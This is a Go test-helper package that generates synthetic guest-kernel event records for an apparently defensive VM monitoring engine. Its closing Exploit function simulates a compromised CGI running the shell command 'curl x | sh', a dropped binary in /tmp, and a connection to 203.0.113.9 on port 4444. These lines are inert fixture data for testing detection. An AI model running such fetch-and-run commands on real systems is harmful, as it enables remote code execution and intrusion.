package enginetest

import (
	"crypto/sha256"
	"fmt"
	"time"

	"github.com/google/uuid"

	"github.com/outguard/outguard/plugins/engine"
	"github.com/outguard/outguard/vsockproto"
)

// Guest makes the records that a small guest's kernel would write: valid, in
// order, the same on every run. Its clock goes on by a millisecond a record.
type Guest struct {
	VM, Session uuid.UUID

	now      uint64 // boot-time ns
	sequence [3]uint64
	pid      uint32
	index    uint64
	records  []byte
	count    int
}

// Process is a process of a Guest.
type Process struct {
	Task   vsockproto.Task
	ExecID uint32
	UID    uint32
	Parent *Process
	Place  *Place // its children are there too; nil: where nothing names it
	comm   string
}

// Place is a cgroup and namespaces.
type Place struct {
	Cgroup              uint64
	Mnt, PID, User, Net uint32
}

// Machine is the place of a guest's first process.
var Machine = Place{1, 4026531841, 0xeffffffc, 0xeffffffd, 4026531840}

// NewGuest makes a guest that runs nothing yet.
func NewGuest(vm uuid.UUID) *Guest {
	return &Guest{VM: vm, Session: uuid.UUID{15: 1}, now: 1e9, pid: 100}
}

// Event fills in what every record of p has.
func (g *Guest) Event(p *Process, t vsockproto.EventType) vsockproto.Event {
	g.now += uint64(time.Millisecond)
	class := t.Class()
	g.sequence[class]++
	e := vsockproto.Event{Header: vsockproto.Header{Type: t, Class: class, Sequence: g.sequence[class], BootNs: g.now}}
	s := &e.Subject
	s.Task, s.LeaderStartNs, s.ExecID = p.Task, p.Task.StartNs, p.ExecID
	if p.Parent != nil {
		s.ParentTGID, s.ParentStartNs = p.Parent.Task.TGID, p.Parent.Task.StartNs
	}
	s.UID, s.EUID, s.SUID, s.FSUID = p.UID, p.UID, p.UID, p.UID
	s.GID, s.EGID, s.SGID, s.FSGID = p.UID, p.UID, p.UID, p.UID
	s.CgroupID, s.MntNS, s.PidNS, s.UserNS, s.NetNS = 1, 2, 3, 4, 5
	if at := p.Place; at != nil {
		s.CgroupID, s.MntNS, s.PidNS, s.UserNS, s.NetNS = at.Cgroup, at.Mnt, at.PID, at.User, at.Net
	}
	if p.UID == 0 {
		s.CapEff = 1<<41 - 1
	}
	copy(s.Comm[:15], p.comm)
	return e
}

// Add appends a record to the batch under way.
func (g *Guest) Add(e *vsockproto.Event) {
	b, err := e.Append(g.records)
	if err != nil {
		panic(err) // a test's mistake
	}
	g.records, g.count = b, g.count+1
}

// AddBytes appends bytes as if they were a record.
func (g *Guest) AddBytes(b []byte) {
	g.records, g.count = append(g.records, b...), g.count+1
}

// Batch ends the batch under way and returns it.
func (g *Guest) Batch() *engine.Batch {
	g.index++
	b := &engine.Batch{
		VM: g.VM, Session: g.Session, Index: g.index, Received: time.Unix(1e9, int64(g.now)),
		Count: g.count, Records: g.records,
	}
	g.records, g.count = nil, 0
	return b
}

// Running is a process that ran before the agent did.
func (g *Guest) Running(path string) *Process {
	g.pid++
	p := &Process{Task: vsockproto.Task{PID: g.pid, TGID: g.pid, StartNs: uint64(g.pid)}, comm: base(path)}
	e := g.Event(p, vsockproto.TaskSnapshot)
	e.File, e.Path.Data = File(path), []byte(path)
	g.Add(&e)
	return p
}

// Init is the guest's first process, in the machine's own place, with the name of
// its cgroup.
func (g *Guest) Init() *Process {
	p := &Process{Task: vsockproto.Task{PID: 1, TGID: 1, StartNs: 1}, Place: &Machine, comm: "init"}
	named := g.Event(p, vsockproto.CgroupSnapshot)
	named.Cgroup.ID, named.Path.Data = Machine.Cgroup, []byte("/")
	g.Add(&named)
	e := g.Event(p, vsockproto.TaskSnapshot)
	e.File, e.Path.Data = File("/sbin/init"), []byte("/sbin/init")
	g.Add(&e)
	return p
}

// Contain makes a cgroup and starts a program there as a runtime does: a child
// enters the cgroup, then namespaces of its own, and then it runs the program.
func (g *Guest) Contain(runtime *Process, cgroup uint64, at, path string) *Process {
	e := g.Event(runtime, vsockproto.CgroupMkdir)
	e.Cgroup.ID, e.Path.Data = cgroup, []byte(at)
	g.Add(&e)
	child := g.Fork(runtime)
	own := uint32(1000 * cgroup)
	child.Place = &Place{cgroup, own, own + 1, Machine.User, own + 2}
	g.Exec(child, path)
	return child
}

// Fork makes a child of p.
func (g *Guest) Fork(p *Process) *Process {
	e := g.Event(p, vsockproto.TaskNewtask)
	g.pid++
	child := &Process{
		Task:   vsockproto.Task{PID: g.pid, TGID: g.pid, StartNs: g.now},
		ExecID: p.ExecID, UID: p.UID, Parent: p, Place: p.Place, comm: p.comm,
	}
	e.Child, e.ChildLeaderStartNs, e.ChildExecID = child.Task, child.Task.StartNs, child.ExecID
	g.Add(&e)
	return child
}

// Exec makes p run path.
func (g *Guest) Exec(p *Process, path string, argv ...string) {
	p.ExecID++
	p.comm = base(path)
	e := g.Event(p, vsockproto.BprmCommittedCreds)
	e.File, e.Path.Data, e.Filename.Data = File(path), []byte(path), []byte(path)
	for _, a := range append([]string{path}, argv...) {
		e.Argv.Data = append(append(e.Argv.Data, a...), 0)
		e.Argc++
	}
	g.Add(&e)
}

// Run is Fork and Exec.
func (g *Guest) Run(p *Process, path string, argv ...string) *Process {
	child := g.Fork(p)
	g.Exec(child, path, argv...)
	return child
}

// Open opens a regular file for reading.
func (g *Guest) Open(p *Process, path string) {
	e := g.Event(p, vsockproto.FileOpen)
	e.File, e.Path.Data = File(path), []byte(path)
	g.Add(&e)
}

// Map maps a file as code.
func (g *Guest) Map(p *Process, path string) {
	e := g.Event(p, vsockproto.MmapFile)
	e.File, e.Path.Data, e.HasFile = File(path), []byte(path), true
	e.ReqProt, e.Prot, e.MapFlags = 5, 5, 2
	g.Add(&e)
}

// Connect connects a TCP socket of p's own to an IPv4 address.
func (g *Guest) Connect(p *Process, address [4]byte, port uint16) {
	e := g.Event(p, vsockproto.SocketConnect)
	e.Socket = vsockproto.Socket{
		Family: 2, Type: 1, Protocol: 6, Owned: vsockproto.OwnerLabelled, Cookie: g.now,
		Owner: p.Task, OwnerExecID: p.ExecID,
	}
	e.Address = vsockproto.Address{Family: 2, Length: 16, Addr4: address, Port: [2]byte{byte(port >> 8), byte(port)}}
	g.Add(&e)
}

// Kill sends a signal.
func (g *Guest) Kill(p, target *Process, signal uint32) {
	e := g.Event(p, vsockproto.TaskKill)
	e.Target, e.TargetExecID, e.Signal = target.Task, target.ExecID, signal
	g.Add(&e)
}

// Exit ends p.
func (g *Guest) Exit(p *Process) {
	e := g.Event(p, vsockproto.SchedProcessExit)
	e.GroupDead = true
	g.Add(&e)
}

// File is a root-owned executable on ext4 whose content is its path's name.
func File(path string) vsockproto.File {
	f := vsockproto.File{
		Inode: uint64(len(path)), Generation: 1, Dev: 8 << 20, Flags: 0o100000, Mode: 0o100755,
		PathKind: vsockproto.PathRoot, Digested: vsockproto.DigestSHA256, Magic: 0xef53, Links: 1, Size: 1,
		UUID: [16]byte{1}, Digest: sha256.Sum256([]byte(path)),
	}
	copy(f.FSID[:], "vda1")
	return f
}

func base(path string) string {
	for i := len(path) - 1; i >= 0; i-- {
		if path[i] == '/' {
			return path[i+1:]
		}
	}
	return path
}

// Serve is a round of a web service's work: n requests, each a CGI that opens
// a file and talks to its database.
func (g *Guest) Serve(server *Process, n int) {
	for i := range n {
		cgi := g.Run(server, "/srv/cgi/search")
		g.Map(cgi, "/lib/libc.so.6")
		g.Open(cgi, fmt.Sprintf("/srv/data/%d", i%3))
		g.Connect(cgi, [4]byte{127, 0, 0, 1}, 5432)
		g.Exit(cgi)
	}
}

// Exploit is what happens when somebody finds the hole in it.
func (g *Guest) Exploit(server *Process) {
	cgi := g.Run(server, "/srv/cgi/search")
	shell := g.Run(cgi, "/bin/sh", "-c", "curl x | sh")
	dropped := g.Run(shell, "/tmp/.x")
	g.Connect(dropped, [4]byte{203, 0, 113, 9}, 4444)
	g.Kill(dropped, server, 15)
}
